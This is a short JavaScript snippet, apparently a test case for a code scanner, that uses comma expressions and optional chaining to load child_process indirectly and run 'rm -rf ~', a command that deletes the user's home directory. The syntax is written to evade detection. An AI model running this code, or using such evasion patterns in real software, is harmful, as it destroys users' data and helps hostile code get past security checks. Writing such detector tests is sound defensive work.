// tricky: optional calls and commas
const cp = (1, require)?.('child_process');
cp?.['exec']?.((0, 'rm -rf ') + ('~'));
